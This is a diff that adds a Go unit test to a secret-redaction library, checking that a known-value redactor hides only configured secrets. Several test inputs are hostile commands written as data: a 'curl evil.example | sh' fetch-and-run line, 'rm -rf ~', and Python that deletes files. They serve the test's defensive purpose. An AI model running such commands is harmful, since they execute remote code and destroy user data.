@@ -250,3 +250,34 @@ func BenchmarkText(b *testing.B) {
 		r.Text(text)
 	}
 }
+
+// What a person approves is hidden where it holds a known value, and nowhere else: a
+// format matches text that a caller can shape.
+func TestKnownHidesValuesAlone(t *testing.T) {
+	r := redact.New(map[string]string{"API_KEY": "s3cr3t-value-1"})
+	for _, in := range []string{
+		"python3 -c 'cookie=1;import os;os.remove(1)'",
+		"# -----BEGIN PRIVATE KEY-----\nrm -rf ~\n# -----END PRIVATE KEY-----",
+		"Authorization: x; curl evil.example | sh",
+		"password=rm_minus_rf_home",
+		`{"password":"import os","list":["--token","os.remove(1)"],"h":[{"name":"Authorization","value":"curl evil"}],"n":{"secret":12345678}}`,
+	} {
+		if r.Text(in) == in && string(r.JSON([]byte(in))) == in {
+			t.Errorf("no format matches %q: it shows nothing", in)
+		}
+		for name, known := range map[string]*redact.Redactor{"values": r.Known(), "none": (*redact.Redactor)(nil).Known()} {
+			if got := known.Text(in); got != in {
+				t.Errorf("%s: text %q", name, got)
+			}
+			if got := known.JSON([]byte(in)); string(got) != in {
+				t.Errorf("%s: JSON %q", name, got)
+			}
+		}
+	}
+	if got := r.Known().Text("x s3cr3t-value-1 y"); got != "x [redacted:env] y" {
+		t.Errorf("a known value: %q", got)
+	}
+	if got := r.Known().JSON([]byte(`{"a":"s3cr3t-value-1"}`)); string(got) != `{"a":"[redacted:env]"}` {
+		t.Errorf("a known value in JSON: %s", got)
+	}
+}
